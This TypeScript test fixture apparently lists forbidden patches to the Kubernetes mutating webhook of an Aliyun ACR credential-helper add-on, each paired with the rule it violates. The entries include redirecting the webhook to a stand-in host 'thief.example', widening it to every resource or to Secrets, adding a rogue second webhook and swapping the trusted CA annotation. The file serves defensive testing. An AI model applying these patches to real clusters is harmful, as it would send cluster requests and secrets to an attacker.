import { merge, steps } from './api-requests.ts';
import type { Escape } from './escapes.ts';

const account = 'aliyun-acr-credential-helper';
const path = `/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/${account}`;
const everything = {
  apiGroups: ['*'],
  apiVersions: ['*'],
  operations: ['*'],
  resources: ['*/*'],
  scope: '*',
};
const thief = 'https://thief.example/';

/** Of the webhook's registration, with which somebody could have every request of the cluster sent to themselves. */
export const onRegistration: readonly Escape[] = [
  [
    'the webhook’s requests, sent to somebody else',
    'does not change who is asked',
    steps(path, { op: 'replace', path: '/webhooks/0/clientConfig/url', value: thief }),
  ],
  [
    'a webhook that is asked about everything',
    'asked about service accounts, and Pods where there is one for these, and nothing else',
    steps(path, { op: 'add', path: '/webhooks/0/rules', value: [everything] }),
  ],
  [
    'a webhook that is asked about Secrets, too',
    'asked about service accounts, and Pods where there is one for these, and nothing else',
    steps(path, {
      op: 'add',
      path: '/webhooks/0/rules',
      value: [
        {
          apiGroups: [''],
          apiVersions: ['v1'],
          operations: ['CREATE', 'UPDATE'],
          resources: ['serviceaccounts', 'secrets'],
          scope: 'Namespaced',
        },
      ],
    }),
  ],
  [
    'a webhook for Pods that is asked about each change of theirs',
    'asked about service accounts, and Pods where there is one for these, and nothing else',
    steps(path, {
      op: 'add',
      path: '/webhooks/1/rules',
      value: [
        {
          apiGroups: [''],
          apiVersions: ['v1'],
          operations: ['CREATE', 'UPDATE'],
          resources: ['pods'],
          scope: 'Namespaced',
        },
      ],
    }),
  ],
  [
    'a webhook for Pods without which none can be created',
    'no Pod waits long for the add-on',
    steps(path, { op: 'replace', path: '/webhooks/1/failurePolicy', value: 'Fail' }),
  ],
  [
    'a webhook that has every Pod wait for half a minute',
    'no Pod waits long for the add-on',
    steps(path, { op: 'replace', path: '/webhooks/1/timeoutSeconds', value: 30 }),
  ],
  [
    'a webhook that is asked about all Pods',
    'about which objects its webhooks are asked',
    steps(path, { op: 'remove', path: '/webhooks/1/matchConditions' }),
  ],
  [
    'a webhook that is asked in kube-system',
    'about which objects its webhooks are asked',
    steps(path, { op: 'remove', path: '/webhooks/0/namespaceSelector' }),
  ],
  [
    'a webhook that is asked about the add-on’s own requests',
    'about which objects its webhooks are asked',
    steps(path, { op: 'remove', path: '/webhooks/0/matchConditions' }),
  ],
  [
    'a second webhook',
    'adds no webhook and takes none away',
    steps(path, {
      op: 'add',
      path: '/webhooks/-',
      value: {
        name: 'second.thief.example',
        clientConfig: { url: thief },
        rules: [everything],
        admissionReviewVersions: ['v1'],
        sideEffects: 'None',
      },
    }),
  ],
  [
    'an annotation that has somebody else write whom to trust',
    'changes no annotations but its own',
    merge(path, { metadata: { annotations: { 'cert-manager.io/inject-ca-from': 'served/theirs' } } }),
  ],
];
